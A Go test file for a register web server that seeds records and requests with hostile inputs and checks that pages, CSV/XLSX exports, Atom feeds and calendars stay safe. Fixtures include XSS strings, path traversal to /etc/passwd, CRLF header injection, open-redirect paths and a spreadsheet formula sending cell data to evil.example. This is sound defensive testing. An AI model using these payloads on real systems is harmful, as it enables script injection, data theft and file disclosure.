package server_test

import (
	"github.com/karvan/karvan/internal/pgtest"

	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/url"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/karvan/karvan/register"
	"github.com/karvan/karvan/server"
	"github.com/karvan/karvan/store/registerdb"
)

// markupTexts are what a record may hold that means no good on a page: elements
// and attributes of an unknown name, which are looked for in every page.
var markupTexts = []string{
	`<script>alert(1)</script><x-evil onload=alert(2)>"'>& `,
	`" onmouseover="alert(1)" x='`,
	`javascript:alert(1)`,
	"java\tscript:alert(1)",
	`../../etc/passwd`,
	"bell\a escape\x1b[31m tab\v feed\f unit\x1f delete\x7f",
	"line\r\nSet-Cookie: a=b\r\nEND:VEVENT\r\nBEGIN:VEVENT",
	`]]></title></textarea></svg><x-evil/>--><x-evil>`,
	"%d%s%v \u202egnp.exe\u2028\u2029\ufeff",
	strings.Repeat("very long words ", 300),
}

// fileTexts are those that mean no good in a file, too.
var fileTexts = append([]string{
	`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1", "@SUM(A1)", "-2+3", "\t=1+1", "\r=1+1",
	strings.Repeat("x", 33000), `..\..\windows\system.ini`, "a;b,c:d\\n\"e\"", "İıŞşə\u0301\U0001F1E6\U0001F1FF",
}, markupTexts...)

// hostile is a register whose every text is one of some.
func hostile(texts []string) *register.Content {
	c := &register.Content{Study: `st"<x-evil>&../`}
	day := "2024-02-03"
	for i, text := range texts {
		c.Sources = append(c.Sources, register.Source{
			ID: fmt.Sprintf("s%d", i), Class: "press", Title: map[string]string{"en": text, "ru": text}, Publisher: text, Author: text,
			Date: day, URL: text, Language: "en", Place: text,
		})
	}
	for i, text := range texts {
		said := register.Said{Source: c.Sources[i].ID, Locator: text, AsOf: day, KnownOn: day, Confidence: "low"}
		key := func(kind register.Kind) string { return fmt.Sprintf("../%s %d\"<x-evil>", kind, i) }
		var values func(fields []register.Field) map[string]any
		one := func(f register.Field) any {
			switch f.Type {
			case register.TextType:
				return text
			case register.NumberType:
				return json.Number("-1.5")
			case register.DayType:
				return day
			case register.CodeType:
				if f.Name == "visibility" {
					return "public" // anything else is published to nobody
				}
				if len(f.Codes) > 0 {
					return f.Codes[i%len(f.Codes)]
				}
				return text
			case register.CodesType, register.TextsType:
				return []any{text, "two"}
			case register.RefType:
				return key(f.Of)
			case register.RefsType:
				return []any{key(f.Of)}
			case register.AnyType:
				return map[string]any{"type": "Point", "coordinates": []any{json.Number("44.5"), json.Number("40.5")}}
			}
			return nil
		}
		values = func(fields []register.Field) map[string]any {
			out := map[string]any{}
			for _, f := range fields {
				switch f.Type {
				case register.ListType:
					a, b := values(f.Fields), values(f.Fields)
					a["id"], b["id"] = "e1", `e2"<x-evil>/]`
					out[f.Name] = []any{a, b}
				case register.ObjectType:
					out[f.Name] = values(f.Fields)
				default:
					out[f.Name] = one(f)
				}
			}
			return out
		}
		for _, k := range register.Kinds {
			e := register.Entry{Kind: k.Kind, Key: key(k.Kind), Said: said}
			if k.Kind == register.Project {
				e.Values = hostileProject(text, key(register.Organisation))
			} else {
				e.Values = values(k.Fields)
				delete(e.Values, "slug") // see the test of slugs
			}
			e.Also = []register.Also{{Path: k.Name + "@ru", Value: text, Said: said}}
			c.Entries = append(c.Entries, e)
		}
	}
	return c
}

func hostileProject(text, organisation string) map[string]any {
	stamp := "2024-02-03T00:00:00Z"
	value := map[string]any{"amount": json.Number("12.5"), "currency": "USD"}
	return map[string]any{
		"title": text, "description": text, "purpose": text, "status": "implementation", "type": "construction", "language": "en",
		"sector": []any{"transport", text}, "publicAuthority": map[string]any{"id": organisation, "name": text},
		"implementationPeriod": map[string]any{"startDate": stamp, "endDate": stamp},
		"budget":               map[string]any{"description": text, "amount": value},
		"locations": []any{map[string]any{"id": "l1", "description": text, "uri": text, "geometry": map[string]any{"type": "Point", "coordinates": []any{json.Number("45.5"), json.Number("40.5")}},
			"address": map[string]any{"streetAddress": text, "locality": text, "country": "AZ"}}},
		"parties":                   []any{map[string]any{"id": organisation, "name": text, "roles": []any{"buyer", text}, "contactPoint": map[string]any{"name": text, "url": text, "email": text}}},
		"documents":                 []any{map[string]any{"id": `d"<x-evil>`, "title": text, "description": text, "url": text, "documentType": text, "format": text, "author": text}},
		"milestones":                []any{map[string]any{"id": "m1", "title": text, "description": text, "type": "delivery", "code": text, "status": "scheduled", "dueDate": "2027-01-05T00:00:00Z"}},
		"metrics":                   []any{map[string]any{"id": "physicalProgress", "title": text, "observations": []any{map[string]any{"id": "o1", "measure": text, "notes": text, "unit": map[string]any{"name": text}}}}},
		"contractingProcesses":      []any{map[string]any{"id": "c1", "summary": map[string]any{"title": text, "description": text, "suppliers": []any{map[string]any{"id": organisation, "name": text}}, "contractValue": value}}},
		"additionalClassifications": []any{map[string]any{"id": "a1", "scheme": text, "description": text, "uri": text}},
		"relatedProjects":           []any{map[string]any{"id": "r1", "scheme": text, "identifier": text, "title": text, "uri": text, "relationship": []any{text}}},
		text[:min(3, len(text))]:    text,
		"karvan":                    map[string]any{"otherNames": []any{text, "two"}, "note": text, "typeStated": text, "countries": []any{"AZ", text}, "lengthKm": json.Number("3"), text[:1]: text, "schedule": map[string]any{"start": text, "plannedEnd": "2025", "actualEnd": text}},
	}
}

func TestRegisterHostileContentInPages(t *testing.T) {
	t.Parallel()
	s := openContent(t, hostile(markupTexts), runs)
	for _, language := range []string{"en", "ru"} {
		t.Run(language, func(t *testing.T) {
			t.Parallel()
			s := s.within(t)
			f := faults{T: t}
			defer f.tell()
			kinds := map[string]bool{}
			n := s.crawl(&f, language, map[string]int{"en": 4, "ru": 1}[language], func(path, body string) {
				kinds[kindOfAddress(path, language)] = true
				doc := parse(t, body)
				if find(doc, "x-evil") != nil {
					f.add("%s: a text became an element", path)
				}
				for _, a := range elements(doc, "a") {
					to := attr(a, "href")
					u, err := url.Parse(to)
					if err != nil || u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" {
						f.add("%s: a link to %.80q: %v", path, to, err)
					}
				}
			})
			if n < 40 || len(kinds) < 25 {
				t.Errorf("only %d pages of %d kinds", n, len(kinds))
			}
			// What a reader types is text too.
			for i, q := range fileTexts {
				for k, path := range []string{"/search?q=", "?q=", "/projects?status=", "/projects?sector=", "/pack?party=", "/meetings?q="} {
					if k > 0 && k != i%6 {
						continue
					}
					if len(q) > 10000 {
						q = q[:10000]
					}
					r := s.plain(http.MethodGet, "/"+language+path+url.QueryEscape(q), nil)
					if r.status != 200 && r.status != 400 {
						f.add("%v", r)
						continue
					}
					for _, text := range pageFaults(string(r.body), language) {
						f.add("%.120s: %s", r.path, text)
					}
					if find(parse(t, string(r.body)), "x-evil") != nil {
						f.add("%.120s: a text became an element", r.path)
					}
				}
			}
		})
	}
	t.Run("every record has a page", func(t *testing.T) {
		s := s.within(t)
		f := faults{T: t}
		defer f.tell()
		for _, k := range register.Kinds {
			for _, r := range s.all(k.Plural, "") {
				u, err := url.Parse(r.Address)
				if err != nil {
					t.Errorf("%s %s: %v", k.Kind, r.ID, err)
					continue
				}
				if page := s.plain(http.MethodGet, u.RequestURI(), nil); page.status != 200 {
					f.add("the address %q of a %s leads to status %d", r.Address, k.Kind, page.status)
				}
			}
		}
		var sources struct {
			Items []struct {
				ID string `json:"id"`
			}
		}
		s.into("/api/v1/sources", &sources)
		for _, source := range sources.Items {
			if r := s.get("/api/v1/sources/" + url.PathEscape(source.ID)); r.status != 200 {
				t.Error(r)
			}
		}
	})
	t.Run("ogc", func(t *testing.T) {
		s := s.within(t)
		for _, path := range []string{"/ogc/collections", "/ogc/collections/projects/items", "/ogc/collections/organisations/items", "/ogc/collections/corridors/items"} {
			r := s.plain(http.MethodGet, path+"?f=html", nil)
			doc := parse(t, string(r.body))
			if r.status != 200 || r.media() != "text/html" || find(doc, "x-evil") != nil || find(doc, "script") != nil {
				t.Errorf("%.300v", r)
			}
			if j := s.plain(http.MethodGet, path, nil); j.status != 200 || !json.Valid(j.body) {
				t.Errorf("%.300v", j)
			}
		}
	})
}

func TestRegisterHostileContentInFiles(t *testing.T) {
	t.Parallel()
	s := openContent(t, hostile(fileTexts), runs)
	harmless := regexp.MustCompile(`^attachment; filename="[A-Za-z0-9][A-Za-z0-9._-]*\.[a-z]+"$`)
	for _, k := range register.Kinds {
		t.Run(k.Plural, func(t *testing.T) {
			t.Parallel()
			s := s.within(t)
			f := faults{T: t}
			defer f.tell()
			records := s.all(k.Plural, "")
			if len(records) != len(fileTexts) {
				t.Fatalf("%d records of %d", len(records), len(fileTexts))
			}
			for _, separator := range []string{"comma", "semicolon"} {
				r := s.get("/api/v1/" + k.Plural + ".csv?separator=" + separator)
				if d := r.header.Get("Content-Disposition"); !harmless.MatchString(d) {
					f.add("Content-Disposition %q", d)
				}
				c := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.body, []byte("\ufeff"))))
				c.Comma = map[string]rune{"comma": ',', "semicolon": ';'}[separator]
				rows, err := c.ReadAll()
				if err != nil || len(rows) != len(records)+1 {
					t.Fatalf("%d rows: %v", len(rows), err)
				}
				for _, row := range rows[1:] {
					for i, cell := range row {
						// -1.5 is a number and no formula.
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && cell != "-1.5" {
							f.add("the cell %q of %s may be taken for a formula", cell, rows[0][i])
						}
					}
				}
			}
			book := s.get("/api/v1/" + k.Plural + ".xlsx")
			if d := book.header.Get("Content-Disposition"); !harmless.MatchString(d) {
				f.add("Content-Disposition %q", d)
			}
			b, err := excelize.OpenReader(bytes.NewReader(book.body))
			if err != nil {
				t.Fatal(err)
			}
			defer b.Close()
			for _, sheet := range b.GetSheetList() {
				rows, err := b.GetRows(sheet)
				if err != nil {
					t.Fatal(err)
				}
				for y, row := range rows {
					for x, cell := range row {
						at, _ := excelize.CoordinatesToCellName(x+1, y+1)
						if formula, err := b.GetCellFormula(sheet, at); err != nil || formula != "" {
							f.add("%s!%s is the formula %q %v", sheet, at, formula, err)
						}
						if utf8.RuneCountInString(cell) > excelize.TotalCellChars {
							f.add("%s!%s is longer than Excel takes", sheet, at)
						}
					}
				}
			}
			if got := idsIn(t, k.Plural, "xlsx", book.body); !slices.Equal(got, ids(records)) {
				f.add("the workbook has %d of %d records", len(got), len(records))
			}
			if got := idsIn(t, k.Plural, "geojson", s.get("/api/v1/"+k.Plural+".geojson").body); !slices.Equal(got, ids(records)) {
				f.add("GeoJSON has %d of %d records", len(got), len(records))
			}
			atom := s.get("/api/v1/" + k.Plural + ".atom?lang=ru")
			for _, text := range atomFaults(atom.body, len(records)) {
				f.add("Atom: %s", text)
			}
			for _, path := range []string{"/api/v1/" + k.Plural + ".ics?lang=ru", "/api/v1/" + k.Plural + "/" + records[0].ID + "?format=ics"} {
				for _, text := range calendarFaults(s.get(path).body) {
					f.add("%s: %s", path, text)
				}
			}
			for _, r := range records {
				if got := s.get("/api/v1/" + k.Plural + "/" + r.ID + "?format=geojson"); got.status != 200 || !json.Valid(got.body) {
					f.add("%v", got)
				}
			}
		})
	}
	t.Run("bulk", func(t *testing.T) {
		s := s.within(t)
		for _, path := range []string{"/api/v1/export/en/projects.json", "/api/v1/export/ru/register.xlsx"} {
			r := s.get(path)
			if r.status != 200 {
				t.Error(r)
			}
			if d := r.header.Get("Content-Disposition"); d != "" && !harmless.MatchString(d) {
				t.Errorf("Content-Disposition %q", d)
			}
		}
		for i, line := range bytes.Split(bytes.TrimSpace(s.get("/api/v1/export/statements.ndjson").body), []byte("\n")) {
			if !json.Valid(line) {
				t.Fatalf("line %d: %.200s", i+1, line)
			}
		}
	})
}

// atomFaults reads a feed as strictly as a reader may (RFC 4287).
func atomFaults(body []byte, entries int) []string {
	var out []string
	d := xml.NewDecoder(bytes.NewReader(body))
	for {
		_, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			return append(out, err.Error())
		}
	}
	type link struct {
		Rel  string `xml:"rel,attr"`
		Href string `xml:"href,attr"`
	}
	var feed struct {
		XMLName xml.Name `xml:"http://www.w3.org/2005/Atom feed"`
		ID      string   `xml:"id"`
		Title   string   `xml:"title"`
		Updated string   `xml:"updated"`
		Author  []struct {
			Name string `xml:"name"`
		} `xml:"author"`
		Link    []link `xml:"link"`
		Entries []struct {
			ID      string  `xml:"id"`
			Title   *string `xml:"title"`
			Updated string  `xml:"updated"`
			Link    []link  `xml:"link"`
		} `xml:"entry"`
	}
	if err := xml.Unmarshal(body, &feed); err != nil {
		return append(out, err.Error())
	}
	if feed.ID == "" || feed.Title == "" || feed.Updated == "" || len(feed.Author) == 0 || len(feed.Entries) != entries {
		out = append(out, fmt.Sprintf("a feed of %d entries, %d were expected: %q %q %q", len(feed.Entries), entries, feed.ID, feed.Title, feed.Updated))
	}
	seen := map[string]bool{}
	for _, e := range feed.Entries {
		if e.ID == "" || seen[e.ID] || e.Title == nil || e.Updated == "" {
			out = append(out, fmt.Sprintf("an entry without id, title or updated, or of an id that is there already: %+v", e))
		}
		seen[e.ID] = true
		for _, l := range append(e.Link, feed.Link...) {
			if u, err := url.Parse(l.Href); err != nil || u.Scheme != "http" && u.Scheme != "https" {
				out = append(out, fmt.Sprintf("a link to %q: %v", l.Href, err))
			}
		}
	}
	return out
}

// calendarFaults reads a calendar as RFC 5545 has it: lines of at most 75
// octets, folded; a name, parameters and a value each; begins that end.
func calendarFaults(body []byte) []string {
	var out []string
	fault := func(format string, args ...any) { out = append(out, fmt.Sprintf(format, args...)) }
	text := string(body)
	if !utf8.ValidString(text) {
		fault("no UTF-8")
	}
	if n := strings.Count(strings.ReplaceAll(text, "\r\n", ""), "\n"); n > 0 {
		// The rest is looked at as if its ends were right.
		fault("%d lines that do not end in CRLF", n)
		text = strings.ReplaceAll(strings.ReplaceAll(text, "\r\n", "\n"), "\n", "\r\n")
	}
	for _, line := range strings.Split(text, "\r\n") {
		if len(line) > 75 {
			fault("a line of %d octets: %.100q", len(line), line)
		}
		for _, r := range line {
			if unicode.IsControl(r) && r != '\t' {
				fault("a control character in %.100q", line)
				break
			}
		}
	}
	content := regexp.MustCompile(`^[A-Za-z0-9-]+(;[A-Za-z0-9-]+=("[^"]*"|[^";:,]*)(,("[^"]*"|[^";:,]*))*)*:`)
	var open []string
	events, uids := 0, map[string]bool{}
	var has map[string]bool
	for _, line := range strings.Split(strings.ReplaceAll(text, "\r\n ", ""), "\r\n") {
		if line == "" {
			continue
		}
		if !content.MatchString(line) {
			fault("no content line: %.100q", line)
			continue
		}
		head, value, _ := strings.Cut(line, ":")
		name, _, _ := strings.Cut(head, ";")
		switch name {
		case "BEGIN":
			open = append(open, value)
			has = map[string]bool{}
			if value == "VEVENT" {
				events++
			}
		case "END":
			if len(open) == 0 || open[len(open)-1] != value {
				fault("END:%s in %v", value, open)
				return out
			}
			if value == "VEVENT" && (!has["UID"] || !has["DTSTAMP"] || !has["DTSTART"]) {
				fault("an event without UID, DTSTAMP or DTSTART: %v", slices.Sorted(maps.Keys(has)))
			}
			open = open[:len(open)-1]
			has = map[string]bool{}
		case "UID":
			if uids[value] {
				fault("two events with the UID %.80q", value)
			}
			uids[value] = true
		case "URL":
			if u, err := url.Parse(value); err != nil || u.Scheme != "http" && u.Scheme != "https" {
				fault("URL %.80q: %v", value, err)
			}
		case "SUMMARY", "DESCRIPTION", "LOCATION":
			if strings.Contains(strings.ReplaceAll(strings.ReplaceAll(value, `\\`, ""), `\;`, ""), ";") {
				fault("%s is not escaped: %.80q", name, value)
			}
		}
		if has != nil {
			has[name] = true
		}
	}
	if len(open) > 0 || !strings.HasPrefix(text, "BEGIN:VCALENDAR\r\n") {
		fault("not ended: %v", open)
	}
	return out
}

// The calendars and feeds of the built-in register are sound too.
func TestRegisterFeedsAreSound(t *testing.T) {
	t.Parallel()
	s := openRegister(t)
	f := faults{T: t}
	defer f.tell()
	for _, k := range register.Kinds {
		for _, language := range register.Languages {
			for _, text := range calendarFaults(s.get("/api/v1/" + k.Plural + ".ics?lang=" + language).body) {
				f.add("%s in %s: %s", k.Plural, language, text)
			}
			for _, text := range atomFaults(s.get("/api/v1/"+k.Plural+".atom?lang="+language).body, len(s.all(k.Plural, ""))) {
				f.add("%s in %s: %s", k.Plural, language, text)
			}
		}
	}
	// A commitment with a day stands in the calendar on that day.
	body := strings.ReplaceAll(string(s.get("/api/v1/commitments.ics").body), "\r\n ", "")
	for _, c := range s.all("commitments", "") {
		due, _ := c.Record["dueDate"].(string)
		if day := register.LastDay(due); day != "" && !strings.Contains(body, "DTSTART;VALUE=DATE:"+strings.ReplaceAll(day, "-", "")) {
			t.Errorf("%s is due on %s, which the calendar does not have", c.Name, day)
		}
	}
}

// A study may give slugs of its own; whatever they are, the record has a page,
// and addresses lead to it.
func TestRegisterHostileSlugs(t *testing.T) {
	t.Parallel()
	said := register.Said{Source: "s", KnownOn: "2024-01-01"}
	c := &register.Content{Study: "x", Sources: []register.Source{{ID: "s", Class: "press", Title: map[string]string{"en": "Source"}}}}
	slugs := []string{"../../en", "a b", "a/b", "a?b", "a#b", "a%2fb", `"><x-evil>`, "şuşa", ".", "..", "index.html", "a\nb", "A", "statements"}
	for i, id := range []string{"a b", "a/b", "a?b", "a#b", "a%2fb", "..", `"><x-evil>`} {
		source := register.Said{Source: id, KnownOn: "2024-01-01"}
		c.Sources = append(c.Sources, register.Source{ID: id, Class: "press", Title: map[string]string{"en": fmt.Sprint("Paper ", i)}})
		c.Entries = append(c.Entries, register.Entry{Kind: register.Person, Key: id, Said: source, Values: map[string]any{"name": fmt.Sprint("Person ", i)}})
	}
	for i, slug := range slugs {
		c.Entries = append(c.Entries, register.Entry{Kind: register.Organisation, Key: fmt.Sprint(i), Said: said, Values: map[string]any{"name": fmt.Sprint("Builder ", i), "slug": slug}})
	}
	db, err := registerdb.Open(t.Context(), pgtest.Database(t, filepath.Join(t.TempDir(), "register.db")))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.Seed(t.Context(), c, "test", seedDay); err != nil {
		db.Close()
		return // refused: nothing to serve
	}
	s := serveRegister(t, db)
	f := faults{T: t}
	defer f.tell()
	list := parse(t, s.page("/en/organisations"))
	for _, r := range s.all("organisations", "") {
		u, err := url.Parse(r.Address)
		if err != nil {
			f.add("the address %q: %v", r.Address, err)
			continue
		}
		page := s.follow(u.RequestURI())
		if page.status != 200 || !strings.Contains(string(page.body), r.Name) {
			f.add("the address %q of %q leads to status %d", r.Address, r.Name, page.status)
		}
		for _, a := range elements(list, "a") {
			if textOf(a) != r.Name {
				continue
			}
			if to := s.follow(attr(a, "href")); to.status != 200 || !strings.Contains(string(to.body), r.Name) {
				f.add("the link %q to %q leads to status %d", attr(a, "href"), r.Name, to.status)
			}
		}
	}
	for _, a := range elements(parse(t, s.page("/en/sources")), "a") {
		if name := textOf(a); strings.HasPrefix(name, "Paper ") {
			if to := s.follow(attr(a, "href")); to.status != 200 || !strings.Contains(string(to.body), name) {
				f.add("the link %q to the source %q leads to status %d", attr(a, "href"), name, to.status)
			}
		}
	}
}

// follow asks for an address of the site as a browser does: without what
// stands behind #.
func (s *registerSite) follow(address string) reply {
	s.t.Helper()
	address, _, _ = strings.Cut(address, "#")
	r, err := s.send(http.MethodGet, address, nil)
	if err != nil {
		s.t.Errorf("%q: %v", address, err)
	}
	return r
}

// What is not for the public is nowhere: remarks and interests say who may see
// them.
func TestRegisterKeepsWhatIsNotPublic(t *testing.T) {
	t.Parallel()
	said := register.Said{Source: "s", KnownOn: "2024-01-01"}
	c := &register.Content{Study: "x", Sources: []register.Source{{ID: "s", Class: "press", Title: map[string]string{"en": "Source"}}}, Entries: []register.Entry{
		{Kind: register.Organisation, Key: "o", Said: said, Values: map[string]any{"name": "Builder"}},
		{Kind: register.Meeting, Key: "m", Said: said, Values: map[string]any{"title": "Meeting", "date": "2024-01-01",
			"participants": []any{map[string]any{"id": "p1", "name": "Somebody"}},
			"remarks": []any{map[string]any{"id": "r1", "participant": "p1", "text": "Morgiana internal remark", "visibility": "internal"},
				map[string]any{"id": "r2", "participant": "p1", "text": "Zurbagan public remark", "visibility": "public"},
				map[string]any{"id": "r3", "participant": "p1", "text": "Morgiana owner remark", "visibility": "owner"}}}},
		{Kind: register.Interest, Key: "i", Said: said, Values: map[string]any{"title": "Morgiana owner interest", "who": "Morgiana company", "organisation": "o", "visibility": "owner"}},
		{Kind: register.Interest, Key: "j", Said: said, Values: map[string]any{"title": "Zurbagan interest", "who": "Zurbagan company", "organisation": "o", "visibility": "public"}},
	}}
	s := openContent(t, c)
	m := s.all("meetings", "")[0]
	if !strings.Contains(s.page("/en/meetings/"+m.Slug), "Zurbagan public remark") {
		t.Error("the page does not show the public remark")
	}
	for _, path := range []string{"/en/meetings/" + m.Slug, "/en/meetings/" + m.Slug + "/brief", "/en/interests", "/en/organisations/builder", "/en/changes", "/en/pack", "/en", "/en/search?q=interest",
		"/api/v1/meetings", "/api/v1/meetings/" + m.ID, "/api/v1/meetings/" + m.ID + "/statements", "/api/v1/interests", "/api/v1/interests.csv", "/api/v1/changes", "/api/v1/search?q=interest", "/api/v1/sources/s", "/api/v1/export/statements.ndjson"} {
		if r := s.plain(http.MethodGet, path, nil); r.status == 200 && bytes.Contains(r.body, []byte("Morgiana")) {
			t.Errorf("%s shows what is not public", path)
		}
	}
	for _, q := range []string{"morgiana", "owner"} {
		if hits := s.search(q); len(hits) > 0 {
			t.Errorf("searching for %s finds %q", q, hits[0].Name)
		}
	}
}

// Words of a request do not become headers or addresses of an answer.
func TestRegisterHostileRequests(t *testing.T) {
	t.Parallel()
	s := openRegister(t, runs)
	for _, path := range []string{
		"/en%0d%0aSet-Cookie:a=b", "/%2e%2e/%2e%2e/etc/passwd", "//evil.example/", "/\\evil.example", "/en//evil.example", "/en/projects/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/en/projects/..%5c..%5c", "/assets/%2e%2e/index.html", "/assets/", "/en/sources/%00",
		"/api/v1/projects/%2e%2e", "/api/v1/sources/%2F%2F", "/api/v1/projects/" + strings.Repeat("a", 5000), "/en/projects/" + strings.Repeat("%C5%9E", 2000), "/en?asOf=" + strings.Repeat("9", 9000), "/en/projects?cursor=" + strings.Repeat("A", 9000),
	} {
		r := s.plain(http.MethodGet, path, nil)
		if r.status >= 500 {
			t.Errorf("%.200v", r)
		}
		if to := r.header.Get("Location"); to != "" {
			if u, err := url.Parse(to); err != nil || u.Host != "" || strings.HasPrefix(to, "//") || strings.HasPrefix(to, "/\\") {
				t.Errorf("%s leads to %q", path, to)
			}
		}
		for _, c := range r.header.Values("Set-Cookie") {
			if strings.HasPrefix(c, "a=") {
				t.Errorf("%s sets the cookie %q", path, c)
			}
		}
		if bytes.Contains(r.body, []byte("root:")) {
			t.Errorf("%s reads a file", path)
		}
	}
	// A page does not grow with the question.
	for _, path := range []string{"/en?q=", "/en/projects?q=", "/en/search?q=", "/en/projects?status=", "/en/pack?party="} {
		short, long := s.page(path+"word"), s.plain(http.MethodGet, path+strings.Repeat("word+", 4000), nil)
		if long.status != 400 && len(long.body) > len(short)+20000 {
			t.Errorf("%s with 20,000 letters gives a page of %d bytes, with 4 one of %d", path, len(long.body), len(short))
		}
	}
	// The address of the site is not what a stranger says in Host, where it is configured.
	based := openRegister(t, func(o *server.Options) { o.Base = "https://register.example/" })
	req, _ := http.NewRequest(http.MethodGet, based.URL+"/api/v1/projects?limit=1", nil)
	req.Host = "evil.example"
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if body, _ := io.ReadAll(resp.Body); bytes.Contains(body, []byte("evil.example")) || !bytes.Contains(body, []byte(`"https://register.example/en/projects/`)) {
		t.Errorf("%.300s", body)
	}
	for _, path := range []string{"/en", "/en/projects", "/api/v1/projects", "/api/v1/projects/nothing", "/assets/register.css"} {
		r := s.plain(http.MethodGet, path, nil)
		policy := r.header.Get("Content-Security-Policy")
		if strings.Contains(policy, "unsafe-inline") || strings.Contains(policy, "unsafe-eval") || !strings.Contains(policy, "frame-ancestors") || !strings.Contains(policy, "default-src 'none'") {
			t.Errorf("%s: Content-Security-Policy %q", path, policy)
		}
		if r.header.Get("X-Content-Type-Options") != "nosniff" || r.header.Get("Referrer-Policy") == "" {
			t.Errorf("%s: headers %v", path, r.header)
		}
	}
}
